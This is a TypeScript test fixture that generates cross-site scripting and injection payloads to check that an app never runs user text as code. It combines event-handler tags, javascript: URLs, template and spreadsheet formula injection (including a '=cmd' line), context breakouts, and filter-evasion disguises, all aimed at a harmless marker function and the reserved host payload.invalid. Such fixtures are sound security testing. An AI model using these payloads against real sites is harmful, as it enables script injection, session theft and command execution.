/** Texts that would run as a script, load something or become markup if any part of the app treated them as code. */

/** The function that each payload calls with its number. The app has no function of this name. */
export const CALLED = 'payloadRan';
/** The class of every element that a payload would create. */
export const MADE = 'made-by-payload';
/** The host that a payload would call. */
export const HOST = 'payload.invalid';

/** A carrier contains the code that would run. Each fits on one line. */
type Carrier = (code: string) => string;

const C = `class=${MADE}`;
const CARRIERS: readonly Carrier[] = [
  (code) => `<script ${C}>${code}</script>`,
  () => `<script ${C} src=//${HOST}/a.js></script>`,
  (code) => `<script ${C} type=module>${code}</script>`,
  (code) => `<img ${C} src=x onerror=${code}>`,
  () => `<img ${C} src=//${HOST}/b.png>`,
  (code) => `<svg ${C} onload=${code}>`,
  (code) => `<svg ${C}><script>${code}</script></svg>`,
  (code) => `<svg ${C}><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<body ${C} onpageshow=${code}>`,
  (code) => `<input ${C} autofocus onfocus=${code}>`,
  (code) => `<details ${C} open ontoggle=${code}>`,
  (code) => `<video ${C}><source onerror=${code}></video>`,
  (code) => `<audio ${C} src=x onerror=${code}>`,
  (code) => `<marquee ${C} onstart=${code}>`,
  (code) => `<p ${C} style="animation:spin 1s" onanimationstart=${code}>`,
  () => `<p ${C} style="background:url(//${HOST}/c)">`,
  (code) => `<iframe ${C} srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe ${C} src="javascript:parent.${code}">`,
  (code) => `<a ${C} href="javascript:${code}">here</a>`,
  (code) => `<a ${C} href=" java&Tab;script:${code}">here</a>`,
  (code) => `<form ${C} action="javascript:${code}"><button>Go</button></form>`,
  (code) => `<button ${C} formaction="javascript:${code}">Go</button>`,
  (code) => `<object ${C} data="javascript:${code}"></object>`,
  () => `<embed ${C} src=//${HOST}/d.swf>`,
  (code) => `<math ${C} href="javascript:${code}">x</math>`,
  (code) => `<meta ${C} http-equiv=refresh content="0;url=javascript:${code}">`,
  () => `<meta ${C} http-equiv=refresh content="0;url=//${HOST}/e">`,
  () => `<base ${C} href=//${HOST}/>`,
  () => `<link ${C} rel=stylesheet href=//${HOST}/f.css>`,
  () => `<style ${C}>@import '//${HOST}/g.css';</style>`,
  (code) => `<template ${C}><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img ${C} src=x onerror=${code}>">`,
  (code) => `&lt;img ${C} src=x onerror=${code}&gt;`,
  (code) => `\\u003cimg ${C} src=x onerror=${code}\\u003e`,
  (code) => `%3Cimg ${C} src=x onerror=${code}%3E`,
  (code) => `[here](javascript:${code})`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `<%= ${code} %>`,
  (code) => `#{${code}}`,
  (code) => `{count, plural, one {${code}} other {${code}}}`,
  (code) => `');${code};//`,
  (code) => `";${code};//`,
  (code) => `=HYPERLINK("//${HOST}/h","${code}")`,
  (code) => `=cmd|' /C ${code}'!A0`,
  (code) => `@SUM(1+1)*${code}`,
];

/** Characters that would end the surrounding context, so that the carrier takes effect. */
const BREAKOUTS = ['', '">', "'>", '</textarea></title></style></script>', '--> ]]>'];

/** The same carrier, disguised against filters for its words. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replace(/ (on\w+|src|href)=/g, '\u00a0/ $1 = '),
];

/** The first payloads of the grammar, all different. */
export function scriptPayloads(count: number): string[] {
  const all = BREAKOUTS.flatMap((breakout, round) =>
    CARRIERS.map((carrier, index) => {
      const disguise = DISGUISES[(round + index) % DISGUISES.length] as (typeof DISGUISES)[number];
      return `${breakout}${disguise(carrier(`${CALLED}(${round * CARRIERS.length + index})`))}`;
    }),
  );
  if (new Set(all).size < count) throw new Error(`The grammar makes ${all.length} payloads only.`);
  return all.slice(0, count);
}
